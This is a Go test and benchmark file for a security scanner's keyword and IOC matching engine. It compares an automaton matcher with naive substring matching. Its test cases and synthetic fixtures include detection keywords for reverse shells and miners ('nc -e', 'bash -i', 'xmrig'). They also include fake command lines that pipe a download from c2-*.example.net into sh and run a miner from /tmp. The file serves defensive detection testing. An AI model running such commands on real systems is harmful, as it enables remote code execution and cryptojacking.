@@ -0,0 +1,237 @@
+package rules
+
+import (
+	"fmt"
+	"math/rand"
+	"reflect"
+	"strings"
+	"testing"
+	"time"
+)
+
+// naiveScan 是自动机取代的逐个 strings.Contains 匹配，作为对照
+func naiveScan(patterns []string, text string) []int {
+	var ids []int
+	for id, p := range patterns {
+		if strings.Contains(text, p) {
+			ids = append(ids, id)
+		}
+	}
+	return ids
+}
+
+func buildMatcher(patterns []string) *matcher {
+	m := newMatcher()
+	for id, p := range patterns {
+		m.add(p, id)
+	}
+	m.build()
+	return m
+}
+
+func TestMatcherMatchesStringsContains(t *testing.T) {
+	cases := []struct {
+		patterns []string
+		text     string
+	}{
+		{[]string{"he", "she", "his", "hers"}, "ushers"},                  // 重叠
+		{[]string{"a", "ab", "abc", "abcd"}, "xabcx"},                     // 互为前缀
+		{[]string{"bc", "abc", "c"}, "abc"},                               // 互为后缀
+		{[]string{"nc -e", "nc -e", "bash -i"}, "nc -e /bin/sh; bash -i"}, // 重复模式
+		{[]string{"", "x"}, "abc"},                                        // 空模式匹配任何文本
+		{[]string{"aaa", "aa"}, "aaaa"},
+		{[]string{"xmrig"}, ""},
+		{[]string{"下载", "载并执行"}, "下载并执行脚本"}, // 多字节字符
+	}
+	for _, c := range cases {
+		got := buildMatcher(c.patterns).scan(c.text)
+		if want := naiveScan(c.patterns, c.text); !reflect.DeepEqual(got, want) {
+			t.Errorf("patterns %q text %q: got %v, want %v", c.patterns, c.text, got, want)
+		}
+	}
+
+	// 在小字母表上随机生成模式和文本，使重叠、前缀和重复模式大量出现
+	rnd := rand.New(rand.NewSource(1))
+	word := func(alphabet string, max int) string {
+		b := make([]byte, rnd.Intn(max+1))
+		for i := range b {
+			b[i] = alphabet[rnd.Intn(len(alphabet))]
+		}
+		return string(b)
+	}
+	for i := 0; i < 2000; i++ {
+		alphabet := "ab"
+		if i%2 == 1 {
+			alphabet = "abc"
+		}
+		patterns := make([]string, 1+rnd.Intn(20))
+		for j := range patterns {
+			patterns[j] = word(alphabet, 5)
+		}
+		m := buildMatcher(patterns)
+		for k := 0; k < 10; k++ {
+			text := word(alphabet, 30)
+			if got, want := m.scan(text), naiveScan(patterns, text); !reflect.DeepEqual(got, want) {
+				t.Fatalf("patterns %q text %q: got %v, want %v", patterns, text, got, want)
+			}
+		}
+	}
+}
+
+// naiveMatchRecords 是引入自动机之前关键词规则的匹配方式: 按规则顺序对每条记录逐个检查模式
+func naiveMatchRecords(rules []Rule, records []Record) []Finding {
+	var findings []Finding
+	for _, rule := range rules {
+		for _, rec := range records {
+			value, ok := rule.target(rec)
+			if !ok {
+				continue
+			}
+			for _, p := range rule.Patterns {
+				if strings.Contains(value, p) && rule.accepts(rec) {
+					findings = append(findings, rule.finding(rec))
+					break
+				}
+			}
+		}
+	}
+	return findings
+}
+
+// naiveMatchIOC 是引入自动机之前关键词 IOC 的匹配方式: 按 IOC 和指标的定义顺序逐个检查
+func naiveMatchIOC(iocs []IOC, content string) []Finding {
+	var findings []Finding
+	for _, ioc := range iocs {
+		for _, indicator := range ioc.Indicators {
+			if strings.Contains(content, indicator) {
+				findings = append(findings, Finding{
+					Source:      "IOC",
+					Name:        ioc.Name,
+					Description: ioc.describe(),
+					RiskLevel:   "High",
+					MatchedLine: fmt.Sprintf("匹配到关键词指标 '%s' -> %s", indicator, content),
+					Attack:      attackPtr(ioc.Attack),
+				})
+			}
+		}
+	}
+	return findings
+}
+
+// keywordFixture 是合成的大规模命令历史、进程列表和关键词规则/指标
+type keywordFixture struct {
+	engine    *RuleEngine
+	rules     []Rule
+	iocs      []IOC
+	history   []string
+	processes []Record
+}
+
+var fixture *keywordFixture
+
+// loadFixture 生成 history 条命令历史、processes 条进程记录，以及 rules 条各含 perRule 个关键词的规则和 iocs 个关键词 IOC，
+// 其中约 1% 的数据命中关键词
+func loadFixture(history, processes, rules, perRule, iocs int) *keywordFixture {
+	rnd := rand.New(rand.NewSource(42))
+	f := &keywordFixture{engine: &RuleEngine{rulesByCheck: make(map[string][]Rule), iocsByType: make(map[string][]IOC), hashes: make(map[string][]*IOC)}}
+	token := func(prefix string, i int) string { return fmt.Sprintf("%s%05d", prefix, i) }
+
+	for i := 0; i < rules; i++ {
+		rule := Rule{Name: token("Keyword_Rule_", i), Enabled: true, TargetCheck: "SuspiciousProcessesCheck", Type: "keyword", RiskLevel: "High"}
+		if i%2 == 0 {
+			rule.Field = "cmdline"
+		}
+		for j := 0; j < perRule; j++ {
+			rule.Patterns = append(rule.Patterns, token("miner-", i*perRule+j))
+		}
+		f.rules = append(f.rules, rule)
+		f.engine.addRule(rule)
+	}
+	for i := 0; i < iocs; i++ {
+		ioc := IOC{Name: token("Feed_", i/100), Enabled: true, Type: "domain", Indicators: []string{token("c2-", i) + ".example.net"}}
+		f.iocs = append(f.iocs, ioc)
+		f.engine.addIOC(ioc, time.Now())
+	}
+	f.engine.compileKeywords()
+
+	commands := []string{"ls -la /var/log", "cd /srv/app && git pull", "systemctl restart nginx", "tail -f /var/log/syslog", "vim /etc/hosts"}
+	for i := 0; i < history; i++ {
+		line := commands[rnd.Intn(len(commands))]
+		if rnd.Intn(100) == 0 {
+			line = "curl -s http://" + token("c2-", rnd.Intn(iocs)) + ".example.net/x | sh"
+		}
+		f.history = append(f.history, line)
+	}
+	exes := []string{"/usr/sbin/sshd", "/usr/bin/python3", "/usr/sbin/nginx", "/usr/lib/systemd/systemd-journald", "/usr/bin/dockerd"}
+	for i := 0; i < processes; i++ {
+		exe := exes[rnd.Intn(len(exes))]
+		cmdline := exe + " --config /etc/app.conf"
+		if rnd.Intn(100) == 0 {
+			cmdline = "/tmp/.x/" + token("miner-", rnd.Intn(rules*perRule)) + " -o pool:3333"
+		}
+		f.processes = append(f.processes, NewRecord(fmt.Sprintf("pid=%d user=root exe=%s cmdline=%s", 1000+i, exe, cmdline),
+			"pid", fmt.Sprint(1000+i), "user", "root", "exe", exe, "cmdline", cmdline))
+	}
+	return f
+}
+
+func benchFixture() *keywordFixture {
+	if fixture == nil {
+		fixture = loadFixture(50000, 20000, 100, 20, 5000)
+	}
+	return fixture
+}
+
+func TestKeywordMatchingSemanticsUnchanged(t *testing.T) {
+	f := loadFixture(3000, 3000, 20, 10, 500)
+	want := naiveMatchRecords(f.rules, f.processes)
+	if len(want) == 0 {
+		t.Fatal("fixture did not produce any rule match")
+	}
+	if got := f.engine.MatchRecords("SuspiciousProcessesCheck", f.processes); !reflect.DeepEqual(got, want) {
+		t.Fatalf("MatchRecords: got %d findings, want %d", len(got), len(want))
+	}
+	matched := 0
+	for _, line := range f.history {
+		got, want := f.engine.MatchIOC("domain", line), naiveMatchIOC(f.iocs, line)
+		if !reflect.DeepEqual(got, want) {
+			t.Fatalf("MatchIOC(%q): got %v, want %v", line, got, want)
+		}
+		matched += len(got)
+	}
+	if matched == 0 {
+		t.Fatal("fixture did not produce any IOC match")
+	}
+}
+
+func BenchmarkMatchRecords(b *testing.B) {
+	f := benchFixture()
+	b.Run("automaton", func(b *testing.B) {
+		for i := 0; i < b.N; i++ {
+			f.engine.MatchRecords("SuspiciousProcessesCheck", f.processes)
+		}
+	})
+	b.Run("naive", func(b *testing.B) {
+		for i := 0; i < b.N; i++ {
+			naiveMatchRecords(f.rules, f.processes)
+		}
+	})
+}
+
+func BenchmarkMatchIOC(b *testing.B) {
+	f := benchFixture()
+	b.Run("automaton", func(b *testing.B) {
+		for i := 0; i < b.N; i++ {
+			for _, line := range f.history {
+				f.engine.MatchIOC("domain", line)
+			}
+		}
+	})
+	b.Run("naive", func(b *testing.B) {
+		for i := 0; i < b.N; i++ {
+			for _, line := range f.history {
+				naiveMatchIOC(f.iocs, line)
+			}
+		}
+	})
+}